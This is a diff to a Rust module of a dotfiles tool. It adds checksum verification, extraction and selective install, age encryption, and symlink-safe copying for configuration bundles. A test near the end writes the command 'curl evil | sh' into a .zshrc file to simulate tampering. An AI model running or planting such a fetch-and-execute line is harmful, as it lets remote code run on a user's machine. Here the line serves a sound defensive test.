@@ -3,14 +3,19 @@
 /// Creates .tar.zst archives containing:
 /// - compiled/ directory
 /// - manifest.lock
-/// - meta.json (profile name, timestamp, host, version)
-use anyhow::Result;
+/// - meta.json (profile name, timestamp, host, version, file checksums)
+use anyhow::{bail, Context, Result};
 use chrono::Utc;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::fs::{self, File};
 use std::path::{Path, PathBuf};
 use walkdir::WalkDir;
 
+use crate::cfg::Config;
+use crate::hash::Manifest;
+use crate::matching::PathMatcher;
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct BundleMeta {
     pub profile_name: String,
@@ -19,6 +24,10 @@ pub struct BundleMeta {
     pub dotdipper_version: String,
     pub file_count: usize,
     pub size_bytes: u64,
+    /// BLAKE3 hash of every file in compiled/ by relative path (empty for
+    /// bundles packed before checksums were recorded)
+    #[serde(default, with = "crate::hash::raw_path::keys")]
+    pub checksums: BTreeMap<PathBuf, String>,
 }
 
 /// Pack compiled/ and manifest into a bundle
@@ -39,22 +48,7 @@ pub fn pack(
         anyhow::bail!("Manifest does not exist: {}", manifest_path.display());
     }
 
-    // Create bundle metadata
-    let hostname = hostname::get()
-        .ok()
-        .and_then(|h| h.into_string().ok())
-        .unwrap_or_else(|| "unknown".to_string());
-
-    let (file_count, size_bytes) = count_files_and_size(compiled_root)?;
-
-    let meta = BundleMeta {
-        profile_name: profile_name.to_string(),
-        timestamp: Utc::now().to_rfc3339(),
-        hostname,
-        dotdipper_version: env!("CARGO_PKG_VERSION").to_string(),
-        file_count,
-        size_bytes,
-    };
+    let meta = describe(compiled_root, profile_name)?;
 
     // Create temp directory for bundle contents
     let temp_dir = tempfile::tempdir()?;
@@ -76,6 +70,8 @@ pub fn pack(
     let tar_gz = File::create(output_bundle)?;
     let encoder = zstd::Encoder::new(tar_gz, 3)?; // Compression level 3
     let mut tar = tar::Builder::new(encoder);
+    // Links in tracked directories are archived as links, even dangling ones
+    tar.follow_symlinks(false);
 
     // Add bundle contents to tar
     tar.append_dir_all("", &bundle_root)?;
@@ -86,8 +82,35 @@ pub fn pack(
     Ok(meta)
 }
 
-/// Unpack a bundle to destination
-pub fn unpack(bundle_path: &Path, _dest_dir: &Path) -> Result<BundleMeta> {
+/// Metadata describing the current contents of `compiled_root`
+pub fn describe(compiled_root: &Path, profile_name: &str) -> Result<BundleMeta> {
+    let hostname = hostname::get()
+        .ok()
+        .and_then(|h| h.into_string().ok())
+        .unwrap_or_else(|| "unknown".to_string());
+
+    let (file_count, size_bytes) = count_files_and_size(compiled_root)?;
+
+    Ok(BundleMeta {
+        profile_name: profile_name.to_string(),
+        timestamp: Utc::now().to_rfc3339(),
+        hostname,
+        dotdipper_version: env!("CARGO_PKG_VERSION").to_string(),
+        file_count,
+        size_bytes,
+        checksums: checksums(compiled_root)?,
+    })
+}
+
+/// An extracted bundle in a temporary directory
+pub struct Extracted {
+    _temp_dir: tempfile::TempDir,
+    root: PathBuf,
+    pub meta: BundleMeta,
+}
+
+/// Extract a bundle into a temporary directory
+pub fn extract(bundle_path: &Path) -> Result<Extracted> {
     if !bundle_path.exists() {
         anyhow::bail!("Bundle does not exist: {}", bundle_path.display());
     }
@@ -104,38 +127,146 @@ pub fn unpack(bundle_path: &Path, _dest_dir: &Path) -> Result<BundleMeta> {
 
     // Find bundle root (may be nested)
     let bundle_root = find_bundle_root(extract_root)?;
+    Extracted::open(temp_dir, bundle_root)
+}
+
+impl Extracted {
+    /// A bundle laid out under `root` (compiled/, manifest.lock, meta.json),
+    /// inside `temp_dir`
+    pub fn open(temp_dir: tempfile::TempDir, root: PathBuf) -> Result<Self> {
+        // Read meta.json
+        let meta_path = root.join("meta.json");
+        if !meta_path.exists() {
+            anyhow::bail!("Bundle is missing meta.json");
+        }
+
+        let meta_content = fs::read_to_string(&meta_path)?;
+        let meta: BundleMeta = serde_json::from_str(&meta_content)?;
+
+        Ok(Extracted {
+            _temp_dir: temp_dir,
+            root,
+            meta,
+        })
+    }
 
-    // Read meta.json
-    let meta_path = bundle_root.join("meta.json");
-    if !meta_path.exists() {
-        anyhow::bail!("Bundle is missing meta.json");
+    /// The bundle's compiled/ directory
+    pub fn compiled(&self) -> PathBuf {
+        self.root.join("compiled")
     }
 
-    let meta_content = fs::read_to_string(&meta_path)?;
-    let meta: BundleMeta = serde_json::from_str(&meta_content)?;
+    pub fn manifest(&self) -> Result<Manifest> {
+        Manifest::load(&self.root.join("manifest.lock"))
+    }
 
-    // Get profile paths
-    let profile_paths = crate::profiles::profile_paths(&meta.profile_name)?;
+    /// Check every file in compiled/ against the checksums recorded when the
+    /// bundle was packed. Fails on any changed, missing or unexpected file.
+    /// Returns the number of files checked.
+    pub fn verify(&self) -> Result<usize> {
+        if self.meta.checksums.is_empty() {
+            bail!(
+                "Bundle has no checksums (packed by dotdipper {}); push it again to verify it",
+                self.meta.dotdipper_version
+            );
+        }
 
-    // Copy compiled/ to profile
-    let src_compiled = bundle_root.join("compiled");
-    if src_compiled.exists() {
-        if profile_paths.compiled.exists() {
-            // Backup existing
-            let backup = profile_paths.compiled.with_extension("compiled.backup");
-            fs::rename(&profile_paths.compiled, &backup)?;
+        let actual = checksums(&self.compiled())?;
+        let mut problems = Vec::new();
+        for (path, hash) in &self.meta.checksums {
+            match actual.get(path) {
+                Some(found) if found == hash => {}
+                Some(_) => problems.push(format!("{}: checksum mismatch", path.display())),
+                None => problems.push(format!("{}: missing", path.display())),
+            }
+        }
+        for path in actual.keys() {
+            if !self.meta.checksums.contains_key(path) {
+                problems.push(format!("{}: not in the bundle's checksums", path.display()));
+            }
         }
 
-        copy_dir_recursive(&src_compiled, &profile_paths.compiled)?;
+        if !problems.is_empty() {
+            bail!(
+                "Bundle failed verification ({} problem(s)):\n  {}",
+                problems.len(),
+                problems.join("\n  ")
+            );
+        }
+        Ok(actual.len())
     }
 
-    // Copy manifest
-    let src_manifest = bundle_root.join("manifest.lock");
-    if src_manifest.exists() {
-        fs::copy(&src_manifest, &profile_paths.manifest)?;
+    /// Replace the bundle profile's compiled/ and manifest with the bundle's
+    pub fn install(&self) -> Result<()> {
+        let profile_paths = crate::profiles::profile_paths(&self.meta.profile_name)?;
+
+        // Copy compiled/ to profile
+        let src_compiled = self.compiled();
+        if src_compiled.exists() {
+            let backup = profile_paths.compiled.with_extension("compiled.backup");
+            if profile_paths.compiled.exists() {
+                // Backup existing
+                if backup.exists() {
+                    fs::remove_dir_all(&backup)?;
+                }
+                fs::rename(&profile_paths.compiled, &backup)?;
+            }
+
+            copy_dir_recursive(&src_compiled, &profile_paths.compiled)?;
+            // The bundle may predate syncs recorded here since
+            crate::machines::keep_newer(&backup, &profile_paths.compiled)?;
+        }
+
+        // Copy manifest
+        let src_manifest = self.root.join("manifest.lock");
+        if src_manifest.exists() {
+            if let Some(parent) = profile_paths.manifest.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            fs::copy(&src_manifest, &profile_paths.manifest)?;
+        }
+
+        Ok(())
     }
 
-    Ok(meta)
+    /// Like [`Extracted::install`], for the manifest entries matching `only`.
+    /// Returns the number of files restored.
+    pub fn install_selected(&self, only: &PathMatcher) -> Result<usize> {
+        let bundle_manifest = self.manifest()?;
+        let profile_paths = crate::profiles::profile_paths(&self.meta.profile_name)?;
+        let mut manifest = if profile_paths.manifest.exists() {
+            Manifest::load(&profile_paths.manifest)?
+        } else {
+            Manifest::new()
+        };
+
+        let mut restored = 0;
+        for (rel_path, file_hash) in &bundle_manifest.files {
+            if !only.is_match(rel_path) {
+                continue;
+            }
+
+            let src = self.compiled().join(rel_path);
+            if !src.is_file() {
+                continue;
+            }
+            let dest = profile_paths.compiled.join(rel_path);
+            if let Some(parent) = dest.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            fs::copy(&src, &dest)?;
+            manifest.add_file(file_hash.clone());
+            restored += 1;
+        }
+
+        if restored > 0 {
+            if let Some(parent) = profile_paths.manifest.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            manifest.save(&profile_paths.manifest)?;
+        }
+
+        Ok(restored)
+    }
 }
 
 fn find_bundle_root(extract_root: &Path) -> Result<PathBuf> {
@@ -164,16 +295,19 @@ fn copy_dir_recursive(src: &Path, dest: &Path) -> Result<()> {
         let path = entry.path();
         let dest_path = dest.join(entry.file_name());
 
-        if path.is_dir() {
+        // Checked without following links: a symlinked directory is copied
+        // as a link, not recursed into
+        let file_type = entry.file_type()?;
+        if file_type.is_dir() {
             copy_dir_recursive(&path, &dest_path)?;
-        } else if path.is_file() {
+        } else if file_type.is_file() {
             fs::copy(&path, &dest_path)?;
 
             // Preserve mtime
             let metadata = entry.metadata()?;
             let mtime = filetime::FileTime::from_last_modification_time(&metadata);
             filetime::set_file_mtime(&dest_path, mtime)?;
-        } else if path.is_symlink() {
+        } else if file_type.is_symlink() {
             // Preserve symlinks
             let target = fs::read_link(&path)?;
             #[cfg(unix)]
@@ -184,6 +318,62 @@ fn copy_dir_recursive(src: &Path, dest: &Path) -> Result<()> {
     Ok(())
 }
 
+/// Encrypt a bundle in place to the configured age key
+pub fn encrypt(config: &Config, bundle_path: &Path) -> Result<()> {
+    let sealed = tempfile::NamedTempFile::new_in(bundle_dir(bundle_path))?;
+    crate::secrets::encrypt_file(config, bundle_path, sealed.path())
+        .context("Failed to encrypt the bundle")?;
+    sealed.persist(bundle_path)?;
+    Ok(())
+}
+
+/// Decrypt an age-encrypted bundle in place with the configured age key
+pub fn decrypt(config: &Config, bundle_path: &Path) -> Result<()> {
+    let opened = tempfile::NamedTempFile::new_in(bundle_dir(bundle_path))?;
+    crate::secrets::decrypt_file(config, bundle_path, opened.path()).context(
+        "Failed to decrypt the bundle; it needs the age key it was pushed with ([secrets] key_path)",
+    )?;
+    opened.persist(bundle_path)?;
+    Ok(())
+}
+
+fn bundle_dir(bundle_path: &Path) -> &Path {
+    bundle_path
+        .parent()
+        .filter(|p| !p.as_os_str().is_empty())
+        .unwrap_or(Path::new("."))
+}
+
+/// Hash of everything a bundle of `compiled_root` would hold, to tell
+/// whether an earlier bundle has the same contents
+pub fn fingerprint(
+    compiled_root: &Path,
+    manifest_path: &Path,
+    profile_name: &str,
+) -> Result<String> {
+    let mut hasher = blake3::Hasher::new();
+    hasher.update(profile_name.as_bytes());
+    hasher.update(&fs::read(manifest_path)?);
+    for (path, hash) in checksums(compiled_root)? {
+        hasher.update(path.as_os_str().as_encoded_bytes());
+        hasher.update(hash.as_bytes());
+    }
+    Ok(hasher.finalize().to_hex().to_string())
+}
+
+/// BLAKE3 hash of every regular file under `dir`, by relative path
+pub fn checksums(dir: &Path) -> Result<BTreeMap<PathBuf, String>> {
+    let mut sums = BTreeMap::new();
+    for entry in WalkDir::new(dir) {
+        let entry = entry?;
+        if entry.file_type().is_file() {
+            let rel_path = entry.path().strip_prefix(dir)?.to_path_buf();
+            sums.insert(rel_path, crate::hash::hash_file(entry.path())?.hash);
+        }
+    }
+    Ok(sums)
+}
+
 fn count_files_and_size(dir: &Path) -> Result<(usize, u64)> {
     let mut count = 0;
     let mut size = 0u64;
@@ -212,6 +402,7 @@ mod tests {
             dotdipper_version: "0.1.0".to_string(),
             file_count: 10,
             size_bytes: 1024,
+            checksums: BTreeMap::new(),
         };
 
         let json = serde_json::to_string(&meta).unwrap();
@@ -220,4 +411,30 @@ mod tests {
         assert_eq!(parsed.profile_name, "default");
         assert_eq!(parsed.file_count, 10);
     }
+
+    #[test]
+    fn test_verify_catches_changed_and_unexpected_files() {
+        let temp = tempfile::tempdir().unwrap();
+        let compiled = temp.path().join("compiled");
+        fs::create_dir_all(compiled.join(".config/git")).unwrap();
+        fs::write(compiled.join(".zshrc"), "export EDITOR=vim\n").unwrap();
+        fs::write(compiled.join(".config/git/config"), "[user]\n").unwrap();
+        let manifest = temp.path().join("manifest.lock");
+        Manifest::new().save(&manifest).unwrap();
+        let bundle = temp.path().join("bundle.tar.zst");
+        pack(&compiled, &manifest, &bundle, "default").unwrap();
+
+        let extracted = extract(&bundle).unwrap();
+        assert_eq!(extracted.verify().unwrap(), 2);
+
+        fs::write(extracted.compiled().join(".zshrc"), "curl evil | sh\n").unwrap();
+        fs::write(extracted.compiled().join(".extra"), "").unwrap();
+        let err = format!("{:#}", extracted.verify().unwrap_err());
+        assert!(err.contains(".zshrc: checksum mismatch"), "{}", err);
+        assert!(
+            err.contains(".extra: not in the bundle's checksums"),
+            "{}",
+            err
+        );
+    }
 }